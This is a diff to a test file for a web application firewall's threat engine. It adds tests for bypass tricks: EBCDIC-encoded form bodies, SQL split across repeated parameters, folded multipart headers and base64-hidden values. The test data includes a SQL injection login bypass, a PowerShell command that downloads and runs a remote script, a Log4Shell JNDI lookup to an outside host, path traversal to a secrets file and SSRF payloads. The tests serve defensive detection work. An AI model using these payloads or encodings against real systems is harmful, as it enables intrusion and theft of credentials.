@@ -11,6 +11,7 @@ import { describe, test } from 'node:test';
 import { ThreatEngine, type NamedDetector } from '../src/threats/engine.js';
 import { DETECTORS } from '../src/threats/detectors/index.js';
 import { graphqlStrings, looksGraphql } from '../src/threats/graphql.js';
+import { ebcdicTable } from '../src/threats/ebcdic.js';
 import type { Hit, RawRequest, ThreatVerdict } from '../src/threats/types.js';
 import { assertCheap } from './threats-timing.js';
 
@@ -368,6 +369,42 @@ describe('third probe round: legitimate formats', () => {
   });
 });
 
+describe('fourth probe round: WAF-bypass techniques', () => {
+  const ebcdic = (text: string) => [...Buffer.from(text, 'latin1')].map((b) => '%' + CP037_OF[b]!.toString(16).toUpperCase().padStart(2, '0')).join('');
+  // the IBM037 bytes of the printable ASCII characters
+  const CP037_OF: Record<number, number> = {};
+  {
+    const table = ebcdicTable('ibm037')!;
+    for (let b = 0; b < 256; b++) CP037_OF[table.charCodeAt(b)] = b;
+  }
+  const form = (type: string, body: string) => req({ method: 'POST', rawPath: '/Account/Login.aspx', headers: { host: 'a', 'content-type': type }, body: Buffer.from(body) });
+
+  test('a form body declared as EBCDIC (charset=ibm037) is read as the text the server decodes', () => {
+    const attack = `${ebcdic('UserName')}=${ebcdic("admin' OR '1'='1'--")}&${ebcdic('Password')}=${ebcdic('x')}`;
+    refused(form('application/x-www-form-urlencoded; charset=ibm037', attack), 'SQL injection in IBM037');
+    refused(form('application/x-www-form-urlencoded; charset="ibm500"', `${ebcdic('host')}=${ebcdic('127.0.0.1 & powershell -c iwr http://203.0.113.8/a.ps1|iex')}`), 'command injection in IBM500');
+    passes(form('application/x-www-form-urlencoded; charset=ibm037', `${ebcdic('UserName')}=${ebcdic("O'Brien")}&${ebcdic('Note')}=${ebcdic('select a plan')}`), 'an ordinary EBCDIC form');
+    // the same bytes read as Latin-1 show nothing: that was the bypass
+    passes(form('application/x-www-form-urlencoded', attack), 'the bytes without the charset');
+  });
+
+  test('a parameter sent more than once is also read joined by commas (ASP.NET)', () => {
+    refused(req({ rawQuery: 'id=1/*&id=*/UNION/*&id=*/SELECT/*&id=*/name,password_hash/*&id=*/FROM/*&id=*/sys.sql_logins--' }), 'SQL split across repeated parameters');
+    for (const query of ['tag=a&tag=b&tag=c', 'id=1&id=2', 'sort=name&sort=-date', "q=O'Brien&q=select a plan"]) passes(req({ rawQuery: query }), query);
+  });
+
+  test('a folded part header is read with the header it continues', () => {
+    const body = '--B\r\nContent-Disposition: form-data; name="upload";\r\n\tfilename="${jndi:ldap://203.0.113.54/a}.txt"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--B--\r\n';
+    refused(req({ method: 'POST', rawPath: '/files', headers: { host: 'a', 'content-type': 'multipart/form-data; boundary=B' }, body: Buffer.from(body) }), 'Log4Shell in a folded filename');
+  });
+
+  test('paths and URLs hidden in base64 are decoded', () => {
+    refused(json({ ref: Buffer.from('../../../../var/lib/app/secrets.env').toString('base64') }, '/attachments/fetch'), 'traversal in base64');
+    refused(json({ feed: Buffer.from('http://localhost:9200/_all/_search?q=password').toString('base64') }, '/reports/source'), 'SSRF in base64');
+    passes(json({ avatar: Buffer.from('https://cdn.example.com/u/42.png').toString('base64'), id: 'QWxhZGRpbjpvcGVuIHNlc2FtZQ==' }, '/profile'), 'a public URL and a word pair in base64');
+  });
+});
+
 describe('the new readings stay linear on pathological input', () => {
   const inspect = (s: string) => engine.inspect(q(s));
   const body = (type: string) => (s: string) => engine.inspect(req({ method: 'POST', rawPath: '/x', headers: { host: 'a', 'content-type': type }, body: Buffer.from(s) }));
@@ -379,6 +416,8 @@ describe('the new readings stay linear on pathological input', () => {
     assertCheap('XPath breakouts', inspect, "' or //a".repeat(10_000), { ceilingMs: 300 });
     assertCheap('JDBC URLs', inspect, 'jdbc:h2:x;a=b '.repeat(8000), { ceilingMs: 300 });
     assertCheap('YAML operator keys', body('application/yaml'), '\n  $where: x'.repeat(10_000), { ceilingMs: 300 });
+    assertCheap('repeated parameters', (s) => engine.inspect(req({ rawQuery: s })), 'id=1/*&'.repeat(20_000), { ceilingMs: 300 });
+    assertCheap('an EBCDIC form', body('application/x-www-form-urlencoded; charset=ibm037'), '%C1%C2=%7D%4D&'.repeat(10_000), { ceilingMs: 300 });
     assertCheap('matrix parameters', (s) => engine.inspect(req({ rawPath: s })), '/a' + ';b=c'.repeat(10_000), { ceilingMs: 300 });
     assertCheap('batch parts', body('multipart/mixed; boundary=B'), '--B\r\nContent-Type: application/http\r\n\r\nGET /x?a=1 HTTP/1.1\r\nX: y\r\n\r\n\r\n'.repeat(2000) + '--B--\r\n', { ceilingMs: 500 });
   });
